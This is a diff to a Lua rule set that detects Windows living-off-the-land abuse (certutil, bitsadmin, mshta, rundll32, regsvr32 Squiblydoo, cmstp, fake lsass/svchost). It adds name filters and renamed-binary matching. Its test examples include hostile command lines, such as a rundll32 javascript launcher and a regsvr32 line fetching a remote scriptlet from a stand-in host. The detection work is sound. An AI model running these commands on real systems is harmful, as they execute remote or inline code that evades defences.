@@ -2,11 +2,12 @@
 local rules = require "etwlua.rules"
 local m = require "etwlua.match"
 
-local function cl(p) return (p.command_line or ""):lower() end
+local function cl(p) return p.cl end
 local url = "https?://"
 
 rules.define {
   id = "win.certutil_download", platform = "windows", severity = "high",
+  names = { "certutil.exe" },
   title = "certutil downloads a file",
   description = "certutil -urlcache/-verifyctl with a URL fetches payloads with a signed Microsoft binary.",
   technique = { "T1105", "T1218" },
@@ -27,6 +28,7 @@ rules.define {
 
 rules.define {
   id = "win.certutil_decode", platform = "windows", severity = "medium",
+  names = { "certutil.exe" },
   title = "certutil decodes a file",
   description = "certutil -decode/-decodehex turns a base64 or hex text file back into a binary.",
   technique = { "T1140" },
@@ -42,6 +44,7 @@ rules.define {
 
 rules.define {
   id = "win.bitsadmin_transfer", platform = "windows", severity = "medium",
+  names = { "bitsadmin.exe" },
   title = "bitsadmin downloads a file",
   description = "bitsadmin /transfer or /addfile with a URL uses BITS to fetch payloads.",
   technique = { "T1197", "T1105" },
@@ -60,6 +63,7 @@ rules.define {
 
 rules.define {
   id = "win.mshta_remote_or_inline", platform = "windows", severity = "high",
+  names = { "mshta.exe" },
   title = "mshta runs remote or inline script",
   description = "mshta with a URL, or with javascript:/vbscript: inline code, executes HTA payloads.",
   technique = { "T1218.005" },
@@ -79,6 +83,7 @@ rules.define {
 
 rules.define {
   id = "win.rundll32_no_arguments", platform = "windows", severity = "high",
+  names = { "rundll32.exe" },
   title = "rundll32 without arguments",
   description = "rundll32.exe started with no DLL is a classic injection host (Cobalt Strike's default spawnto).",
   technique = { "T1218.011", "T1055" },
@@ -102,7 +107,12 @@ rules.define {
   description = "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\" executes script without a file.",
   technique = { "T1218.011" },
   falsepositives = { "None known" },
-  match = function(p) return p.name == "rundll32.exe" and cl(p):find("javascript:") ~= nil end,
+  match = function(p)
+    -- a renamed copy (copy rundll32.exe %TEMP%\out.exe) still needs mshtml's RunHTMLApplication
+    local c = cl(p)
+    return (p.name == "rundll32.exe" and c:find("javascript:") ~= nil)
+      or (c:find("javascript:", 1, true) ~= nil and c:find("runhtmlapplication", 1, true) ~= nil)
+  end,
   examples = {
     positive = { { image = [[C:\Windows\System32\rundll32.exe]],
                    command_line = [[rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WScript.Shell")]] } },
@@ -119,13 +129,16 @@ rules.define {
   falsepositives = { "None known" },
   match = function(p)
     local c = cl(p)
-    return p.name == "regsvr32.exe" and (c:find("scrobj") or (c:find("/i:") and c:find(url))) ~= nil
+    -- "/i:URL" with /s or /u is Squiblydoo's shape even on a renamed regsvr32
+    return (p.name == "regsvr32.exe" and (c:find("scrobj") or (c:find("/i:") and c:find(url))) ~= nil)
+      or (c:find("/i:https?://") ~= nil and (c:find("%s/s%f[%s]") or c:find("%s/u%f[%s]")) ~= nil)
   end,
   examples = {
     positive = { { image = [[C:\Windows\System32\regsvr32.exe]],
                    command_line = [[regsvr32 /s /n /u /i:http://x.test/file.sct scrobj.dll]] } },
     negative = { { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /s C:\apps\ctl.dll]] },
-                 { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /u vbscript.dll]] } },
+                 { image = [[C:\Windows\System32\regsvr32.exe]], command_line = [[regsvr32 /u vbscript.dll]] },
+                 { image = [[C:\Tools\setup.exe]], command_line = [[setup.exe /i:https://x.test/a.msi]] } },
   },
 }
 
@@ -178,6 +191,7 @@ local lsass_parent = m.set { "wininit.exe" }
 local svchost_parent = m.set { "services.exe", "msmpeng.exe", "svchost.exe" }
 rules.define {
   id = "win.svchost_wrong_parent", platform = "windows", severity = "high",
+  names = { "svchost.exe" },
   title = "svchost.exe with an unexpected parent",
   description = "svchost is started by services.exe; another parent means a fake or injected service host.",
   technique = { "T1036.005", "T1055" },
@@ -193,6 +207,7 @@ rules.define {
 
 rules.define {
   id = "win.lsass_wrong_parent", platform = "windows", severity = "critical",
+  names = { "lsass.exe" },
   title = "lsass.exe with an unexpected parent",
   description = "Only wininit.exe starts lsass; any other parent is a fake LSASS, often a credential harvester.",
   technique = { "T1036.005", "T1003" },
@@ -255,6 +270,7 @@ rules.define {
 
 rules.define {
   id = "win.cmstp_inf", platform = "windows", severity = "high",
+  names = { "cmstp.exe" },
   title = "cmstp installs a connection profile silently",
   description = "cmstp /s /ni with an .inf runs commands from the profile and can bypass UAC.",
   technique = { "T1218.003" },
